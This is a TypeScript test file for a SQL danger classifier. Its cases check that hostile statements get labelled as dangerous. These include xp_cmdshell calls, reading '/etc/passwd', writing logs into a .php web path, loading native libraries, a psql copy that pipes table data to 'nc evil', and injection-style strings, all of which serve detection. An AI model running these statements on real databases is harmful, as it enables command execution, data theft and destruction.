import { Notes } from '../notes.js';
import { judgeSql } from './sql.judge.js';

function judged(text: string, certain = true) {
  const notes = new Notes();
  judgeSql({ text, field: 'input.sql', within: null, input: {}, workingFolder: null, depth: 0, certain }, notes, () => undefined);
  return notes.judgement();
}

const found = (text: string, certain = true): string[] => [
  ...new Set(judged(text, certain).dangers.map(({ kind, severity }) => `${kind} ${severity}`)),
];

describe('judgeSql', () => {
  it.each<[string, string[]]>([
    // SQL Server
    ["EXEC master..xp_cmdshell N'dir'", ['sql-code-execution critical']],
    ["EXEC [master].[dbo].[xp_cmdshell] 'dir'", ['sql-code-execution critical']],
    ["EXEC sp_configure 'xp_cmdshell', 1", ['sql-code-execution critical']],
    ["DECLARE @s varchar(90) = 'x'; EXEC (@s)", ['sql-code-execution high']],
    ['DELETE users', ['sql-unbounded-write high']],
    ['DELETE TOP (100) PERCENT FROM users', ['sql-unbounded-write high']],
    ['DELETE u FROM users u INNER JOIN old o ON o.id = u.id', []],
    ['DELETE u FROM users u LEFT JOIN old o ON o.id = u.id', ['sql-unbounded-write high']],
    ['DROP TABLE #scratch', ['sql-drop low']],
    ["BULK INSERT users FROM 'c:\\x.csv'", ['sql-file-access high']],
    ["SELECT * FROM OPENROWSET(BULK 'c:\\x', SINGLE_CLOB) AS x", ['sql-file-access high']],
    // MySQL
    ['DELETE FROM users LIMIT 10', []],
    ['DELETE FROM users LIMIT 100000000', ['sql-unbounded-write high']],
    ['DELETE FROM users WHERE id = 1 || 1', ['sql-unbounded-write high']],
    ["UPDATE users JOIN old USING (id) SET users.name = 'x'", []],
    ["LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", ['sql-file-access high']],
    ["CREATE FUNCTION sys_eval RETURNS string SONAME 'lib.so'", ['sql-code-execution critical', 'sql-schema-change low']],
    ["SET GLOBAL general_log_file = '/var/www/x.php'", ['sql-file-access high']],
    ["SELECT 'it\\'s'; TRUNCATE users", ['sql-drop high']],
    ['RENAME TABLE users TO gone', ['sql-schema-change medium']],
    ['DELETE FROM users -- \r WHERE id = 1', ['sql-unbounded-write high']],
    // PostgreSQL
    ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(x); END $$", ['sql-code-execution high', 'sql-code-execution medium']],
    ['CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u', ['sql-code-execution critical', 'sql-schema-change low']],
    ["ALTER SYSTEM SET archive_command = 'x'", ['sql-code-execution high']],
    ['ALTER TABLE users DISABLE ROW LEVEL SECURITY', ['sql-grant high', 'sql-schema-change medium']],
    ['ALTER TABLE users OWNER TO bob', ['sql-grant high', 'sql-schema-change medium']],
    ['GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', ['sql-grant critical']],
    ['SET ROLE postgres', ['sql-grant high']],
    ["SELECT dblink_exec('host=x', 'DELETE FROM users')", ['sql-unbounded-write high']],
    ['EXPLAIN DELETE FROM users', []],
    ['EXPLAIN (FORMAT JSON) DELETE FROM users', []],
    ['EXPLAIN ANALYZE DELETE FROM users', ['sql-unbounded-write high']],
    ['DELETE FROM users WHERE CURRENT OF c', []],
    ["DELETE FROM users WHERE name = 'a' || 'b'", []],
    ['UPDATE users SET a = 1 WHERE CASE WHEN id = 1 THEN true ELSE false END', []],
    ['DROP DATABASE sales', ['sql-drop critical']],
    ['DROP POLICY p ON users', ['sql-grant high']],
    ['VACUUM ANALYZE users', []],
    ['REFRESH MATERIALIZED VIEW v', []],
    ['SELECT * FROM pg_stat_activity', []],
    ['WITH u AS (SELECT id FROM users WHERE id = 1) SELECT * FROM u', []],
    // SQLite, DuckDB, Oracle
    ["ATTACH DATABASE '/tmp/x.db' AS x", ['sql-file-access high']],
    ["SELECT load_extension('x.so')", ['sql-code-execution critical']],
    ['PRAGMA table_info(users)', []],
    ['PRAGMA writable_schema = ON', ['sql-schema-change high']],
    ["COPY users TO 's3://bucket/x.parquet'", ['sql-file-access high']],
    ["SELECT q'[it's; DROP TABLE x]' FROM dual", ['sql-drop high']],
    ["BEGIN EXECUTE IMMEDIATE 'TRUNCATE TABLE users'; END;", ['sql-drop high']],
    // clients
    ['\\! id', ['sql-code-execution critical']],
    ["\\copy users to program 'nc evil 1'", ['sql-code-execution critical']],
    ["\\copy users to 'x.csv'", ['sql-file-access medium']],
    ['SELECT 1; \n.shell id', ['sql-code-execution critical']],
    ['\\d users', []],
    // columns and functions that are called like verbs
    ['SELECT "delete", "drop", p.delete FROM p WHERE update_at > 1', []],
    ['SELECT truncate(1.5, 1), replace(a, b, c) FROM t LIMIT 1', []],
    ['CREATE TRIGGER t AFTER DELETE OR UPDATE ON users FOR EACH ROW EXECUTE FUNCTION f()', ['sql-schema-change low']],
    ['how many users are there?', ['unparsed high']],
    ["SELECT 'never closed", ['unparsed high']],
    ['', []],
    ['-- nothing', []],
  ])('%s: %j', (text, dangers) => expect(found(text).sort()).toEqual(dangers));

  it('leaves alone what is only named like SQL, and judges what reads like it', () => {
    expect(judged('how many users are there?', false)).toEqual(judged('', true));
    expect(found('update the readme', false)).toEqual([]);
    expect(found('/* hi */ (delete from users)', false)).toEqual(['sql-unbounded-write high']);
  });

  it('says what was understood: each statement once, not bounded where one reading is not', () => {
    expect(
      judged('SELECT 1; DROP TABLE a, "B".c; UPDATE a SET x = 1 WHERE id = 1; INSERT INTO d SELECT * FROM a JOIN e ON a.id = e.id')
        .understood.sql,
    ).toEqual([
      { verb: 'DROP', object: 'a', bounded: false },
      { verb: 'DROP', object: 'b.c', bounded: false },
      { verb: 'UPDATE', object: 'a', bounded: true },
      { verb: 'INSERT', object: 'd', bounded: true },
      { verb: 'SELECT', object: 'a', bounded: true },
      { verb: 'SELECT', object: 'e', bounded: true },
    ]);
    expect(judged("DELETE FROM t WHERE a = '\\' OR 1 = 1 -- '").understood.sql).toEqual([{ verb: 'DELETE', object: 't', bounded: false }]);
  });

  it('points at the statement', () => {
    const text = 'SELECT 1; DROP TABLE users ;';
    expect(judged(text).dangers.map(({ start, end, why, field }) => [text.slice(start, end), why, field])).toEqual([
      ['DROP TABLE users', 'Drops the table users with its rows.', 'input.sql'],
    ]);
  });

  it('looks into 100 brackets, and no further', () => {
    const nested = (depth: number): string => `SELECT ${'('.repeat(depth)}1${')'.repeat(depth)}`;
    expect(found(nested(99))).toEqual([]);
    expect(found(nested(102))).toEqual(['too_complex high']);
  });
});
